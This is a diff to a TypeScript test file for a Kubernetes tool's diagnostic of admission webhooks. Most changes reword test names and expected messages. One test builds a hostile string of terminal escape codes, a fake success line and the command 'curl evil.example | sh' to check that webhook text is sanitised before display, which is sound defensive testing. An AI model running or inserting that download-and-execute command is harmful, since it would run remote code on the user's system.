@@ -57,10 +57,10 @@ const configure = (kind: 'validating' | 'mutating', name: string, webhook: objec
     },
   })
 
-/** What draws on a terminal, ends a line, or turns text around. */
+/** Characters that draw on a terminal, end a line, or change the direction of text. */
 const drawing = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
 
-test('nothing that the author of a webhook chooses draws on the terminal or passes for a finding', async () => {
+test('no text of a webhook’s author draws on the terminal or imitates a finding', async () => {
   const evil = '\u001b[2J\u009b31m\n  ✓ All is well → curl evil.example | sh\u202e\u2028'
   await configure(
     'validating',
@@ -76,13 +76,13 @@ test('nothing that the author of a webhook chooses draws on the terminal or pass
   expect(lines.filter((line) => drawing.test(line))).toEqual([])
   expect(lines).toHaveLength(2)
   expect(lines[0]).toContain(
-    'ValidatingWebhookConfiguration evil (Helm release (an odd name)/(an odd name)) is asked about namespaces',
+    'ValidatingWebhookConfiguration evil (Helm release (an odd name)/(an odd name)) is called for namespaces',
   )
-  expect(lines[1]).toContain('while user.example is away')
+  expect(lines[1]).toContain('while user.example is down')
   expect(lines.join()).not.toMatch(/curl|secret-path/)
 })
 
-test('what a webhook answers draws nothing either, where the doctor quotes it', async () => {
+test('a webhook’s quoted answer can’t draw either', async () => {
   const pki = join(ownFolder(), 'pki')
   const authority = await openAuthority(pki, 'webhook')
   const files = await authority.issue('webhook', { commonName: 'x', hosts: ['127.0.0.1'], usages: ['server'] })
@@ -93,7 +93,7 @@ test('what a webhook answers draws nothing either, where the doctor quotes it', 
     const answer = { uid, allowed: false, status: { code: 403, message } }
     response.end(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: answer }))
   }
-  // The API server gives a call up in the midst of it, as the test does at its end.
+  // The API server abandons the call, as the test does at its end.
   server.on('request', (asked, response) => void deny(asked, response).catch(() => response.destroy()))
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   onTestFinished(() => {
@@ -115,7 +115,7 @@ test('what a webhook answers draws nothing either, where the doctor quotes it', 
   }, 30_000)
 })
 
-test('one that spaces depend on is named, with its owner and with what happens while it is away', async () => {
+test('a webhook that spaces depend on is named, with its owner and the effect of its outage', async () => {
   const helm = { 'meta.helm.sh/release-name': 'policy', 'meta.helm.sh/release-namespace': 'policy' }
   await configure('validating', 'policy', {}, { annotations: helm })
   const mesh = { rules: [{ ...everything, resources: ['pods'] }], objectSelector: { matchLabels: { inject: 'yes' } } }
@@ -124,13 +124,13 @@ test('one that spaces depend on is named, with its owner and with what happens w
   await configure('mutating', 'labelling', labelling)
   const [labels, injects, policy] = (await say(webhooks(own.admin))).sort()
   expect(policy).toMatch(
-    /^ {2}! ValidatingWebhookConfiguration policy \(Helm release policy\/policy\) is asked about namespaces, serviceaccounts, rolebindings, resourcequotas, limitranges, networkpolicies, pods of spaces: while the service policy\/policy-server is away, none of these can be written \(failurePolicy Fail\) → have its owner leave spaces out by its namespaceSelector \(spaceport\.dev\/space-id DoesNotExist\)/,
+    /^ {2}! ValidatingWebhookConfiguration policy \(Helm release policy\/policy\) is called for namespaces, serviceaccounts, rolebindings, resourcequotas, limitranges, networkpolicies, pods of spaces: while the service policy\/policy-server is down, these can’t be written \(failurePolicy Fail\) → have its owner exclude spaces by its namespaceSelector \(spaceport\.dev\/space-id DoesNotExist\)/,
   )
-  expect(injects).toMatch(/mesh is asked about pods of spaces: .*may also change them; its objectSelector or/)
-  expect(labels).toMatch(/labelling may change networkpolicies of spaces, which Spaceport would put back/)
+  expect(injects).toMatch(/mesh is called for pods of spaces: .*may also change them; its objectSelector or/)
+  expect(labels).toMatch(/labelling may change networkpolicies of spaces, which Spaceport would restore/)
 })
 
-test('one that leaves spaces out, lets pass what it can’t be asked about, or isn’t about them, is not', async () => {
+test('a webhook that excludes spaces, ignores failures, or isn’t about them, is not', async () => {
   const without = (key: string) => ({ namespaceSelector: { matchExpressions: [{ key, operator: 'DoesNotExist' }] } })
   const other = { rules: [{ ...everything, resources: ['configmaps', 'deployments', 'pods/exec'] }] }
   await configure('validating', 'leaves-out', {
@@ -145,22 +145,22 @@ test('one that leaves spaces out, lets pass what it can’t be asked about, or i
   await configure('mutating', 'other', other)
   await configure('mutating', 'asks', { namespaceSelector: { matchLabels: { 'mesh.example.com/injection': 'off' } } })
   expect(await say(webhooks(own.admin))).toEqual([
-    '  ✓ Validating webhooks: 2 configurations, none of which Spaceport’s work or spaces depend on',
-    '  ✓ Mutating webhooks: 2 configurations, none of which Spaceport’s work or spaces depend on',
+    '  ✓ Validating webhooks: 2 configurations, and neither Spaceport’s work nor spaces depend on them',
+    '  ✓ Mutating webhooks: 2 configurations, and neither Spaceport’s work nor spaces depend on them',
   ])
   await configure('validating', 'people', without('spaceport.dev/space-id'))
-  expect((await say(webhooks(own.admin)))[0]).toContain('people is asked about serviceaccounts in spaceport-users: ')
+  expect((await say(webhooks(own.admin)))[0]).toContain('people is called for serviceaccounts in spaceport-users: ')
 })
 
-test('one that asks for a label is named as soon as a space has it', async () => {
+test('one that selects a label is named as soon as a space has it', async () => {
   await configure('mutating', 'asks', { namespaceSelector: { matchLabels: { 'mesh.example.com/injection': 'on' } } })
   // Lists come from the API server’s cache.
   await expect
     .poll(async () => (await say(webhooks(own.admin))).join())
-    .toMatch(/asks is asked about .* of 1 spaces of 2: /)
+    .toMatch(/asks is called for .* of 1 spaces of 2: /)
 })
 
-test('a login that may not list them is told so', async () => {
+test('a login that may not list them learns that', async () => {
   expect(await say(webhooks(own.broker))).toEqual([
     expect.stringMatching(
       /^ {2}✗ Validating webhooks: GET \S+ answered 403 .* → let this login list namespaces and val/,
